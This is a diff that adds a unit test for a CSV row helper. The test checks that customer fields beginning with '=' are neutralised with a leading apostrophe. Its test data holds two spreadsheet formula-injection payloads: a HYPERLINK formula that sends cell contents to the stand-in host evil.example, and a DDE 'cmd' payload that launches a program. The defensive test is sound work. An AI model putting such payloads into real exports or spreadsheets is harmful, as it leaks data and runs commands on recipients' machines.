@@ -41,6 +41,12 @@ describe('csvCell', () => {
 });
 
 describe('csvRow', () => {
+  it('defuses a customer record whose text starts with =, and keeps its numbers', () => {
+    // A shop's customer id and country are free text: either could be a formula.
+    const line = csvRow(['=HYPERLINK("http://evil.example/?"&A1,"17850")', '=cmd|\' /C calc\'!A0', 326, -1.5, 'Champions']);
+    expect(parse(line)).toEqual([[`'=HYPERLINK("http://evil.example/?"&A1,"17850")`, "'=cmd|' /C calc'!A0", '326', '-1.5', 'Champions']]);
+  });
+
   it('ends with CRLF and reads back with a standard CSV parser', () => {
     const values = ['=2+2', 'a "quoted", text', -1.5, 'x\ny', '@user', '-12.50'];
     const line = csvRow(values);
